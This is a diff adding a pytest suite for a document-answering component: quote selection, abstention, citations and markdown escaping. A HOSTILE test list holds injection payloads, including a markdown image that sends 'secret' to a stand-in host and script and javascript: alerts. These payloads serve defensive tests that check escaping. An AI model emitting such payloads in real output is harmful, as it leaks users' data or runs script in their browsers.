@@ -1,0 +1,221 @@
+from __future__ import annotations
+
+import json
+from collections.abc import Sequence
+from pathlib import Path
+
+import pytest
+from markdown_it import MarkdownIt
+
+from agents.answering.abstention import answerability, nearest
+from agents.answering.answer_type import asks_number, offers_number
+from agents.answering.compose import NOT_FOUND, abstention_markdown, citations, evidence_markdown
+from agents.answering.markdown import escape
+from agents.answering.quotes import Quote, select_quotes
+from agents.answering.settings import AnsweringSettings
+from agents.answering.units import units
+from retrieval.embedding import HashingEmbedder, build_embedder
+from retrieval.passages import Hit, Passage
+from retrieval.settings import RetrievalSettings
+
+encode = HashingEmbedder().encode
+
+
+def passage(text: str, *, name: str = "leave.md", heading: str = "", page: int | None = None) -> Passage:
+    return Passage(
+        id=f"{name}/{heading}/{text[:20]}",
+        document_id=name,
+        document=name,
+        title=name,
+        page=page,
+        heading=heading,
+        text=text,
+        position=0,
+    )
+
+
+def hits(*passages: Passage) -> list[Hit]:
+    return [Hit(passage=each, score=1 - i / 10, dense=0.5) for i, each in enumerate(passages)]
+
+
+def texts(quotes: Sequence[Quote]) -> list[str]:
+    return [quote.text for quote in quotes]
+
+
+ANNUAL = passage(
+    "Leave is requested in the portal. Up to 5 unused days may be carried over. They expire on 31 March.",
+    heading="Leave > Annual leave",
+    page=3,
+)
+TRAVEL = passage("Flights need approval. Trains are booked in second class.", name="travel.md", heading="Travel")
+
+
+def test_the_best_sentence_comes_first_and_is_verbatim() -> None:
+    quotes = select_quotes("How many unused days may be carried over?", hits(TRAVEL, ANNUAL), encode)
+    best = quotes[0]
+    assert "Up to 5 unused days may be carried over." in best.text
+    assert best.number == 1
+    assert all(q.hit.passage.text[q.start : q.end] == q.text for q in quotes)
+
+
+def test_neighbours_are_one_quote_and_one_source_has_one_number() -> None:
+    split_up = passage("Unused days expire. The canteen opens at noon. Unused days may be carried over. Days count.")
+    quotes = select_quotes("unused days", hits(split_up), encode, AnsweringSettings(score_gap=9))
+    assert {quote.number for quote in quotes} == {1}
+    assert "Unused days may be carried over. Days count." in texts(quotes)
+
+
+def test_a_pronoun_brings_its_sentence_along() -> None:
+    source = passage("Vouchers come by mail. They expire in March. The canteen is closed on Sundays.")
+    quotes = select_quotes("When do they expire in March?", hits(source), encode, AnsweringSettings(score_gap=0.1))
+    assert texts(quotes) == ["Vouchers come by mail. They expire in March."]
+
+
+def test_repeats_of_a_sentence_are_quoted_once() -> None:
+    copy = passage("Up to 5 unused days may be carried over.", name="copy.md")
+    quotes = select_quotes("unused days carried over", hits(ANNUAL, copy), encode)
+    assert " ".join(texts(quotes)).count("carried over") == 1
+
+
+@pytest.mark.parametrize("sentences", [1, 2, 3])
+def test_never_more_than_the_settings_allow(sentences: int) -> None:
+    long = passage(" ".join(f"Unused days of kind {word * 40} count." for word in "abcdef"))
+    settings = AnsweringSettings(max_sentences=sentences, max_chars=150, score_gap=9)
+    quotes = select_quotes("unused days", hits(long), encode, settings)
+    assert 1 <= sum(quote.text.count("count.") for quote in quotes) <= sentences
+    assert sum(len(quote.text) for quote in quotes) <= 150 + 2
+
+
+def test_text_without_sentences_is_cut_to_size() -> None:
+    pieces = units(passage("days " * 300), 200)
+    assert all(len(piece.text) <= 200 for piece in pieces)
+    assert "".join("".join(piece.text for piece in pieces).split()) == "days" * 300
+
+
+def test_a_question_in_the_text_is_quoted_with_its_answer_and_a_list_with_its_lead_in() -> None:
+    faq = passage(
+        "How do I reset my password?\nOpen the sign-in page.\n\nBring along:\n- a badge\n- a phone\n\nBye now."
+    )
+    assert [piece.text for piece in units(faq, 900)] == [
+        "How do I reset my password?\nOpen the sign-in page.",
+        "Bring along:\n- a badge\n- a phone",
+        "Bye now.",
+    ]
+
+
+def test_a_table_row_is_quoted_alone_and_a_heading_lends_its_words() -> None:
+    table = passage("Limits\nItem: Lunch | Limit: 18 EUR\nItem: Dinner | Limit: 30 EUR", name="expenses.md")
+    quotes = select_quotes("dinner limits", hits(table), encode, AnsweringSettings(score_gap=0.1))
+    assert texts(quotes) == ["Item: Dinner | Limit: 30 EUR"]
+    assert quotes[0].match.coverage == pytest.approx(1.0)
+
+
+@pytest.mark.parametrize("found", [[], hits(passage("")), hits(passage("..."))])
+def test_nothing_found_is_nothing_quoted(found: list[Hit]) -> None:
+    quotes = select_quotes("anything?", found, encode)
+    assert quotes == []
+    assert answerability(quotes) == 0
+    assert evidence_markdown(quotes) == ""
+    assert abstention_markdown(quotes).startswith(NOT_FOUND)
+
+
+def test_answerability_falls_with_what_is_missing() -> None:
+    def likelihood(question: str) -> float:
+        return answerability(select_quotes(question, hits(ANNUAL, TRAVEL), encode))
+
+    asked = likelihood("How many unused days may be carried over?")
+    assert asked > 0.5
+    assert likelihood("Who won the football cup?") < 0.05
+    assert likelihood("How many unused parking permits may be carried upstairs?") < asked
+
+
+@pytest.mark.parametrize(
+    ("question", "text", "expected"),
+    [
+        ("How many days?", "Five days.", True),
+        ("When is it due in March?", "It is due in March.", False),
+        ("When is it due?", "Every Monday.", True),
+        ("How long is the leave of 2023?", "The leave of 2023 is long.", False),
+    ],
+)
+def test_numbers_and_dates_that_are_news(question: str, text: str, expected: bool) -> None:
+    assert asks_number(question)
+    assert offers_number(text, question) is expected
+
+
+def test_citations_carry_their_quotes() -> None:
+    quotes = select_quotes("unused days carried over flights approval", hits(ANNUAL, TRAVEL), encode)
+    cited = citations(quotes)
+    assert [each.number for each in cited] == list(range(1, len(cited) + 1))
+    assert all(quote in each.passage.text for each in cited for quote in each.quotes)
+    assert sum(len(each.quotes) for each in cited) == len(quotes)
+
+
+def test_the_abstention_names_the_nearest_sources() -> None:
+    markdown = abstention_markdown(select_quotes("unused days", hits(ANNUAL), encode))
+    assert markdown.startswith(NOT_FOUND)
+    assert "leave.md, page 3, Leave > Annual leave" in markdown
+    assert "[1]" in markdown
+
+
+def test_only_what_is_near_is_shown_as_near() -> None:
+    quotes = select_quotes("Who won the football cup?", hits(TRAVEL), encode)
+    assert quotes
+    assert nearest(quotes, AnsweringSettings(nearest_from=0.9)) == []
+    assert nearest(quotes, AnsweringSettings(nearest_from=-1)) == quotes
+
+
+HOSTILE = [
+    "![x](http://evil.example/?q=secret)",
+    "<script>alert(1)</script><img src=x onerror=alert(1)>",
+    "[click](javascript:alert(1))",
+    "[a]: http://evil.example\n\n[a]",
+    "<http://evil.example> &lt;b&gt; **bold** _x_ `code` ~~gone~~",
+    "# Heading\n===\n---\n> quoted\n    indented",
+    "```\nfence\n```\n\\[x](y)",
+    "see [1] and [2](http://evil.example)",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_hostile_text_stays_text(text: str) -> None:
+    """Rendered by a real parser with HTML allowed, there is nothing but paragraphs and the very characters."""
+    parser = MarkdownIt("commonmark", {"html": True}).enable(["strikethrough", "table"])
+    tokens = parser.parse(escape(text))
+    kinds = {child.type for token in tokens for child in [token, *(token.children or [])]}
+    shown = "".join(child.content for token in tokens for child in token.children or [] if child.type == "text")
+    assert kinds <= {"paragraph_open", "paragraph_close", "inline", "text", "softbreak", "text_special"}
+    assert "".join(shown.split()) == "".join(text.split())
+
+
+def test_hostile_passages_are_harmless_in_every_output() -> None:
+    evil = passage(HOSTILE[0] + " Days.", name="![n](http://evil.example)", heading="<b>[h](x:y)</b>")
+    quotes = select_quotes("days", hits(evil), encode)
+    html = MarkdownIt("commonmark", {"html": True}).render(evidence_markdown(quotes) + abstention_markdown(quotes))
+    assert not any(tag in html for tag in ("<img", "<a ", "<b>", "<script"))
+
+
+def test_direction_marks_and_control_signs_are_dropped() -> None:
+    assert escape("a\u202eb\u200bc\x07d") == "abcd"
+
+
+@pytest.mark.model
+def test_answers_stand_in_the_quotes_of_real_questions(shared_data: Path) -> None:
+    """Every sixteenth XQuAD article, with the paragraphs of its article to choose from."""
+    articles = json.loads((shared_data / "xquad" / "xquad.en.json").read_text("utf-8"))["data"][::16]
+    embedder = build_embedder(RetrievalSettings())
+    contained = answerable = refused = asked = 0
+    for article in articles:
+        paragraphs = [passage(p["context"], name=f"p{i}") for i, p in enumerate(article["paragraphs"])]
+        for home, paragraph in zip(paragraphs, article["paragraphs"], strict=True):
+            others = [each for each in paragraphs if each is not home]
+            for qa in paragraph["qas"][:2]:
+                asked += 1
+                quotes = select_quotes(qa["question"], hits(others[0], home, *others[1:3]), embedder.encode)
+                contained += any(qa["answers"][0]["text"] in quote.text for quote in quotes)
+                answerable += answerability(quotes) >= 0.25
+                missing = select_quotes(qa["question"], hits(*others[:4]), embedder.encode)
+                refused += answerability(missing) < 0.25
+    assert contained >= 0.88 * asked
+    assert answerable >= 0.9 * asked
+    assert refused >= 0.5 * asked
